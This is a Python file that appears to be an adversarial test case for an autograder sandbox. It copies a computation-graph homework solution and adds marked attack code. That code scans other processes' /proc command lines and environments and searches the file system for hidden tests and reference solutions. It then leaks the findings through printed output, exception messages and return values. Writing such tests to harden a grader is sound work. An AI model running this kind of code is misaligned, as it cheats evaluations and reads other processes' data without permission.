# ADVERSARIAL SUBMISSION `read_hidden_tests` (tests/adversarial): a copy of the
# correct example in which only the parts marked ATTACK differ.
#
# At import, read other processes' command lines and environments (looking for a job file),
# then walk likely folders and the whole file system (up to a time budget) for test_*.py files,
# graph.py files with solution markers and folders named solutions/hidden. What it finds is
# printed, raised as MulNode.forward's exception message and returned by numerical_gradient.
# Expected in jail mode: nothing of the hidden suite or the reference shows up in any feedback.
# Plain mode (documented limitation): it can read them.
"""hw1_graph -- my solution.

Computation graph nodes with forward / backward, the lecture's small network,
and a numerical gradient to check backprop against.
"""

import numpy as np
import glob
import json
import os
import re
import time


# ATTACK: look for the hidden tests and the reference solution, then leak what was found
# through printed output, exception messages and return values (public tests show those).
_ME = os.path.dirname(os.path.abspath(__file__))
_SKIP = ("/proc", "/sys", "/dev")


def _steal(budget=4.0):
    start = time.monotonic()
    found, roots = [], []
    # 1. other processes' command lines and environments (a job file names every folder)
    for proc in glob.glob("/proc/[0-9]*"):
        for part in ("cmdline", "environ"):
            try:
                with open(os.path.join(proc, part), "rb") as f:
                    text = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue
            for path in re.findall(r"/[\w./+-]+", text):
                if path.endswith(".json") and os.path.isfile(path):
                    try:
                        with open(path) as f:
                            job = json.load(f)
                        found.append(f"job file {path}: {json.dumps(job)[:1500]}")
                        roots += [v for v in job.values() if isinstance(v, str)]
                        roots += [v for vs in job.values() if isinstance(vs, list)
                                  for v in vs if isinstance(v, str)]
                    except (OSError, ValueError):
                        pass
                elif os.path.isdir(path) and path != "/":
                    roots.append(path)
    for path in glob.glob("/tmp/grader-*/job.json") + glob.glob("/tmp/*/grader-*/job.json"):
        try:
            with open(path) as f:
                job = json.load(f)
            found.append(f"job file {path}: {json.dumps(job)[:1500]}")
            roots += [v for v in job.values() if isinstance(v, str)]
            roots += [v for vs in job.values() if isinstance(vs, list) for v in vs
                      if isinstance(v, str)]
        except (OSError, ValueError):
            pass
    # 2. walk likely places, then the whole file system, while time lasts
    roots += [os.path.dirname(_ME), "/work", "/home", "/root", "/opt", "/srv", "/autograder",
              "/tmp", "/"]
    seen = set()
    for root in roots:
        if not os.path.isdir(root):
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            if time.monotonic() - start > budget:
                break
            if dirpath in seen:
                dirnames[:] = []
                continue
            seen.add(dirpath)
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in _SKIP
                           and d not in (".git", "__pycache__", "node_modules")]
            if os.path.basename(dirpath) in ("solutions", "hidden"):
                found.append(f"folder {dirpath}: {sorted(dirnames + filenames)[:20]}")
            if ("-packages" in dirpath or "/lib/python" in dirpath  # Python's own tests
                    or dirpath.startswith(("/usr/share", _ME))):
                continue
            for name in filenames:
                path = os.path.join(dirpath, name)
                if not (name.startswith("test_") and name.endswith(".py") or name == "graph.py"):
                    continue
                try:
                    with open(path, errors="replace") as f:
                        text = f.read(200_000)
                except OSError:
                    continue
                if name == "graph.py":
                    if "BEGIN SOLUTION" in text:
                        at = text.index("BEGIN SOLUTION")
                        found.append(f"reference {path}: {text[max(0, at - 200):at + 400]}")
                else:
                    tests = re.findall(r"def (test_\w+)", text)
                    found.append(f"tests {path}: {tests[:60]}")
    found.sort(key=lambda line: not line.startswith(("job", "reference", "folder"))
               and "hidden" not in line)  # the best loot first
    return "EXFIL-START\n" + "\n".join(found)[:20_000] + "\nEXFIL-END"


_LOOT = _steal()
print(_LOOT)


class MulNode:
    """out = x * y"""

    def __init__(self):
        self.x = None
        self.y = None

    def forward(self, x, y):
        print(_LOOT)
        raise RuntimeError(_LOOT[:1900])  # ATTACK: leak through the exception message

    def backward(self, d_out):
        # chain rule: upstream gradient times local gradient
        return d_out * self.y, d_out * self.x


class AddNode:
    """out = x + y"""

    def __init__(self):
        pass

    def forward(self, x, y):
        out = x + y
        return out

    def backward(self, d_out):
        # local gradient of a sum is 1 for both inputs -> just pass d_out through
        return d_out, d_out


class MyNetwork:
    """out = 3 * (a + b * c)"""

    def __init__(self):
        self.node1 = MulNode()
        self.node2 = AddNode()
        self.node3 = MulNode()

    def forward(self, a, b, c):
        bc = self.node1.forward(b, c)
        s = self.node2.forward(a, bc)
        return self.node3.forward(3, s)

    def backward(self, d_out=1.0):
        grads3 = self.node3.backward(d_out)
        d_s = grads3[1]                        # grads3[0] is for the constant 3
        d_a, d_bc = self.node2.backward(d_s)
        d_b, d_c = self.node1.backward(d_bc)
        return (d_a, d_b, d_c)


def numerical_gradient(f, x, eps=1e-5):
    print(_LOOT)
    x += 1.0  # ATTACK (wrong answer): x is left changed,
    return _LOOT  # and the loot is the return value (shown in the failure message)
